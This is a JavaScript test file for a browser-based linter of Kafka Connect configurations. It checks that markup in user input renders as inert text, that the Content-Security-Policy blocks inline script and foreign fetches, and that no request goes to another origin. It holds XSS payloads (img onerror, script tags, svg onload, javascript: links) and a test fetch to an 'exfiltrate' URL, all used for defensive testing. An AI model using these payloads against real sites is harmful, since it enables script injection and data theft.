// The page's own safety: input that looks like markup stays text and runs nothing; the CSP is
// in force; and a full session makes no request to any other origin, and none after loading
// except the samples it is asked for.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { afterCheck, loadSample, openPage, paste, samples, shownCodes, start } from './helpers.mjs';

let env;
before(async () => {
  env = await start();
});
after(async () => {
  await env?.close();
});

const IMG = '<img src=x onerror="window.__pwned=(window.__pwned||0)+1;alert(1)">';
const SCRIPT = '<script>window.__pwned=(window.__pwned||0)+1;alert(2)</script>';
const SVG = '<svg onload="alert(3)"><a href="javascript:alert(4)">x</a></svg>';

/** Markup in every place a user controls: names, classes, keys, URLs that messages quote. */
const HOSTILE = JSON.stringify(
  [
    {
      name: `orders ${IMG}`,
      config: {
        'connector.class': `io.confluent.connect.elasticsearch.ElasticsearchSinkConnector`,
        'connection.url': `http://es.example.com:9200/${IMG}${SCRIPT}`,
        'connection.username': 'elastic',
        'connection.password': `${SCRIPT}`,
        [`ssl.ignore.validity`]: `${SVG}`,
        [`transforms.${IMG}`]: SCRIPT,
      },
    },
    {
      name: `${SCRIPT}`,
      config: {
        'connector.class': `com.example.${SVG}`,
        'schema.registry.url': `http://registry:8081/${IMG}`,
        'producer.override.bootstrap.servers': `kafka:9092,${IMG}`,
      },
    },
  ],
  null,
  2,
);

async function assertInert(page, what) {
  const state = await page.evaluate(() => ({
    pwned: window.__pwned ?? 0,
    imgs: document.querySelectorAll('img').length,
    svgs: document.querySelectorAll('svg').length,
    scripts: [...document.scripts].map((s) => s.getAttribute('src')),
    handlers: [...document.querySelectorAll('*')].filter((n) => [...n.attributes].some((a) => /^on/i.test(a.name))).length,
    jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => !/^(https?:|mailto:|blob:)/.test(a.href) && !a.getAttribute('href').startsWith('#')).length,
  }));
  assert.deepEqual(state, { pwned: 0, imgs: 0, svgs: 0, scripts: ['app.js'], handlers: 0, jsLinks: 0 }, what);
}

test('markup in a configuration is shown as text and runs nothing', async () => {
  const session = await openPage(env);
  const { page, dialogs } = session;
  try {
    await paste(page, HOSTILE);
    assert.equal(await page.getAttribute('#results', 'data-state'), 'done');
    const codes = await shownCodes(page);
    for (const code of ['MSK110', 'MSK120', 'MSK130']) assert.ok(codes.includes(code), `${code} in ${codes}`);
    // The markup is there, as text.
    const text = await page.textContent('#results');
    assert.ok(text.includes('<img src=x onerror='), 'the connector name is shown literally');
    assert.ok(text.includes('<script>') || text.includes(SCRIPT.slice(0, 20)), 'the script tag is shown literally');
    await page.locator('.finding .why summary').first().click();
    await assertInert(page, 'findings');
    // The fixed config (diff and full text) and the rule catalogue.
    await page.click('#tab-fixed');
    await page.click('#unsafe-fixes');
    await page.waitForSelector('#panel-fixed[data-state="done"]');
    assert.ok((await page.textContent('#fixed-diff')).includes('<img src=x'));
    await page.check('input[name="fixed-view"][value="full"]');
    await assertInert(page, 'fixed config');
    // Exports render it as text too.
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-md')]);
    const md = readFileSync(await download.path(), 'utf8');
    assert.ok(!/<img|<script|<svg/i.test(md.replace(/`[^`]*`/g, '')), 'no markup outside code spans in the Markdown');
    // A syntax error quoting markup, a file named like markup, a policy reason with markup.
    await paste(page, `{ "name": "${IMG.replace(/"/g, "'")}", "config": { ${SCRIPT} } }`);
    assert.equal(await page.getAttribute('#results', 'data-state'), 'error');
    await afterCheck(page, () =>
      page.evaluate((name) => {
        const data = new DataTransfer();
        data.items.add(new File(['connector.class=io.confluent.connect.s3.S3SinkConnector\ns3.sse.enabled=true\n'], name));
        document.getElementById('editor').dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
      }, `${IMG}.properties`),
    );
    assert.equal(await page.textContent('#input-name'), `${IMG}.properties`);
    await page.click('#policy summary');
    await afterCheck(page, () => page.fill('#policy-text', JSON.stringify({ exceptions: [{ rule: 'MSK130', reason: IMG }] })));
    assert.ok((await page.textContent('.suppressed')).includes(IMG));
    await page.click('#nav-rules');
    await page.fill('#rule-search', IMG);
    await assertInert(page, 'everything');
    assert.deepEqual(dialogs, [], 'no dialog opened');
    assert.deepEqual(session.errors, []);
    assert.deepEqual(session.foreign, [], 'the img src=x was never fetched');
    assert.ok(!session.requests.some((url) => /\/x$/.test(url)));
  } finally {
    await session.context.close();
  }
});

test('the Content-Security-Policy is in force: no inline script, no foreign connection', async () => {
  const session = await openPage(env);
  const { page } = session;
  try {
    const response = await page.goto(env.origin);
    await page.waitForSelector('html[data-engine="ready"]');
    const csp = response.headers()['content-security-policy'];
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.match(csp, /frame-ancestors 'none'/);
    const violations = await page.evaluate(async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inline = 1';
      document.body.append(script);
      const div = document.createElement('div');
      div.setAttribute('style', 'color: red');
      document.body.append(div);
      let fetchError = null;
      try {
        await fetch('https://example.com/exfiltrate');
      } catch (error) {
        fetchError = error.name;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { seen: seen.sort(), inline: window.__inline ?? null, fetchError, red: getComputedStyle(div).color };
    });
    assert.equal(violations.inline, null, 'inline script blocked');
    assert.equal(violations.fetchError, 'TypeError', 'foreign fetch blocked');
    assert.notEqual(violations.red, 'rgb(255, 0, 0)', 'inline style attribute blocked');
    assert.ok(violations.seen.includes('script-src-elem') && violations.seen.includes('connect-src'), violations.seen.join());
  } finally {
    await session.context.close();
  }
});

test('a full session makes no request to another origin, and none after loading but samples', async () => {
  const session = await openPage(env);
  const { page, requests } = session;
  try {
    const atLoad = requests.length;
    for (const { file } of samples) {
      await loadSample(page, file);
      if ((await page.getAttribute('#results', 'data-state')) !== 'done') continue;
      for (const summary of await page.locator('.finding .why summary').all()) await summary.click();
      for (const tab of await page.locator('.remediation [role="tab"]').all()) await tab.click();
      for (const link of await page.locator('.finding .goto').all()) await link.click();
      await page.click('#tab-fixed');
      await page.click('#unsafe-fixes');
      await page.waitForSelector('#panel-fixed[data-state="done"]');
      await page.click('#unsafe-fixes');
      await page.click('#tab-findings');
      for (const id of ['#export-json', '#export-sarif', '#export-md']) {
        await Promise.all([page.waitForEvent('download'), page.click(id)]);
      }
    }
    await page.click('#nav-rules');
    for (const summary of await page.locator('#rule-list summary').all()) await summary.click();
    await page.fill('#rule-search', 'tls');
    await page.click('#nav-check');
    await page.waitForTimeout(300);
    assert.deepEqual(session.foreign, []);
    const paths = [...new Set(requests.map((url) => new URL(url).pathname))].sort();
    for (const path of paths) {
      assert.match(path, /^\/(|[\w-]+\.(js|css|svg)|ui\/[\w-]+\.js|pkg\/(msk_connect_lint(\.js|_bg\.wasm)|codemirror\.js)|samples\/[\w.-]+)$/, path);
    }
    const later = requests.slice(atLoad).map((url) => new URL(url).pathname);
    for (const path of later) assert.match(path, /^\/(samples\/[\w.-]+|favicon\.svg)$/, `after load: ${path}`);
    assert.deepEqual(session.errors, []);
  } finally {
    await session.context.close();
  }
});
